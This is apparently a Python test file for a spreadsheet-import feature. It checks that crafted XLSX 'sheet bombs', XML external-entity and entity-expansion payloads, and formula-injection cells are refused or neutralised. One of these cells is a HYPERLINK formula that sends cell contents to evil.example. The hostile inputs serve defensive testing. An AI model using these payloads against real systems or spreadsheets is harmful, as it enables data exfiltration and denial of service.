"""Files built to crash the process that reads them, and rows built to execute in a spreadsheet (docs/reference/security.md)."""

from __future__ import annotations

import csv
import random
import zipfile
from pathlib import Path

import pytest
from tests.costly import counted

from heliograph.domain.snapshot import HistoryEntry, compile_account
from heliograph.domain.spreadsheet_cells import original_cell, without_formula
from heliograph.registrations.imports import missing_setup, refusal_file
from heliograph.registrations.imports.census import Census
from heliograph.registrations.imports.columns import Known
from heliograph.registrations.imports.file_reader import look, open_rows
from heliograph.registrations.imports.import_errors import ImportFileError, RowProblem
from heliograph.registrations.imports.likeness import Likeness

_TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_SCHEMAS = "http://schemas.openxmlformats.org"
PARTS = {
    "[Content_Types].xml": f'<Types xmlns="{_SCHEMAS}/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="{_TYPES}.sheet.main+xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{_SCHEMAS}/package/2006/relationships"><Relationship Id="rId1" Type="{_SCHEMAS}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{_SCHEMAS}/spreadsheetml/2006/main" xmlns:r="{_SCHEMAS}/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_SCHEMAS}/package/2006/relationships"><Relationship Id="rId1" Type="{_SCHEMAS}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


def cell(place: str = "") -> str:
    return f'<c {place} t="str"><v>code</v></c>'


def row(*cells: str) -> str:
    return f"<row>{''.join(cells)}</row>"


def workbook(path: Path, rows: str, before: str = "") -> Path:
    sheet = f'{before}<worksheet xmlns="{_SCHEMAS}/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**PARTS, "xl/worksheets/sheet1.xml": sheet}.items():
            archive.writestr(name, text)
    return path


def test_an_honest_workbook_of_this_making_is_read(tmp_path: Path) -> None:
    path = workbook(tmp_path / "honest.xlsx", row(cell('r="A1"'), cell('r="B1"')) + row(cell('r="A2"')))
    rows = open_rows(path, look(path))
    assert [r.cells for r in rows] == [["code", ""]]
    rows.close()


@pytest.mark.parametrize(
    "rows",
    [
        pytest.param(row(cell('r="A1"')) + row(cell('r="xfd1048576"')), id="small letters"),
        pytest.param(row(cell('r="A1"')) + row(cell('r="XFD0001048576"')), id="zeros in front"),
        pytest.param(row(cell('r="A1"')) + row(cell(f'r{" " * 30}={" " * 30}"XFD1048576"')), id="spaces"),
        pytest.param(row(cell('r="A1"')) + row(cell(f'r{" " * 3_000}={" " * 3_000}"XFD1048576"')), id="many spaces"),
        pytest.param(row(cell('r="A1"')) + row(cell(f'r="XFD{"0" * 3_000}1048576"')), id="many zeros"),
        pytest.param(row(cell(), "<c/>" * 16_382, cell()) + "<row/>" * 100_000 + row(cell()), id="no places at all"),
        pytest.param(row(cell(), "<c/>" * 16_382, cell()) + f'<row r="1000000">{cell()}</row>', id="rows have places, cells have none"),
    ],
)
def test_I4_cells_in_far_corners_do_not_end_the_process_however_they_are_written(tmp_path: Path, rows: str) -> None:
    """As a table of everything between them, each would take hundreds of gigabytes and crash the reader's process."""
    path = workbook(tmp_path / "far.xlsx", rows)
    assert path.stat().st_size < 20_000
    with pytest.raises(ImportFileError, match="so far apart"):
        look(path)


def test_I4_entities_of_a_workbook_are_not_resolved(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("not to be read")
    before = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}"><!ENTITY a "{"b" * 1_000}"><!ENTITY c "{"&a;" * 1_000}">]>'
    for name in "eac":
        path = workbook(tmp_path / f"{name}.xlsx", f'<row><c r="A1" t="str"><v>&{name};</v></c></row>', before)
        with pytest.raises(ImportFileError, match="entity"):
            look(path)


CELLS = ["=1+1", "+49 151", "-5", "@x", "\tx", "\rx", "'=x", "''+x", "plain", "'quoted'", "", "\uff1dx", "a=b"]


@pytest.mark.parametrize("text", CELLS)
def test_I4_a_cell_of_the_report_is_no_formula_and_is_itself_again(text: str) -> None:
    assert not without_formula(text).startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
    assert original_cell(without_formula(text)) == text


def test_I4_a_report_of_refused_rows_begins_no_formula_and_is_imported_as_it_was(tmp_path: Path) -> None:
    """It is opened in a spreadsheet, and its contents were typed by anyone who registered."""
    cells = ['=HYPERLINK("https://evil.example/?"&A1)', *CELLS[1:]]
    path = tmp_path / "refused.csv"
    problem = RowProblem("=name", cells[0], "is not known.", ("-1", "x"))
    refusal_file.write_report(path, [*(f"c{n}" for n in range(len(cells) - 1)), "=head"], [refusal_file.RefusedRow(7, (problem,), cells)])
    with path.open(encoding="utf-8-sig", newline="") as file:
        for line in csv.reader(file):
            assert not [cell for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))]
    rows = open_rows(path, look(path))
    try:
        assert rows.names[-1] == "=head"
        assert [row.cells[6:] for row in rows] == [cells]
    finally:
        rows.close()


def odd_census(questions: int, length: int) -> Census:
    """A file whose columns have 300 different answers each, half of them so rare that they look like typos of the others."""
    letters, census = random.Random(1), Census()
    for row in range(300):
        answers = {f"q{n}": "".join(letters.choices("abcdefghij", k=length)) for n in range(questions)}
        for _ in range(1 if row < 150 else 6):
            census.add({"event": "E", "code": "1", "status": answers["q0"], "answers": answers}, {})
    return census


@pytest.mark.parametrize(("questions", "length"), [(8, 290), (8, 100), (30, 30)])
def test_A4_looking_for_slips_has_a_bound_whatever_a_file_holds(questions: int, length: int) -> None:
    """A file of 900 KB used to keep the page process busy for minutes: each rare answer was compared with each frequent one, letter by
    letter."""
    known = Known(compile_account(1, 1, [HistoryEntry("account", 1, 1, {"code": "A", "name": "A"})]))
    census = odd_census(questions, length)
    with counted("difflib") as lines:
        found = missing_setup.lacking(census, known)
    assert len(found) > questions
    assert lines[0] < 10_000_000


def test_I4_a_slip_is_still_found_among_names_of_a_usual_length() -> None:
    likeness = Likeness()
    assert likeness.most_alike("Vegetarain", ["Vegan", "Vegetarian", "None"]) == "Vegetarian"
    assert likeness.most_alike("x" * 101, ["x" * 100]) == ""
    assert Likeness(comparisons_left=0).most_alike("Vegetarain", ["Vegetarian"]) == ""
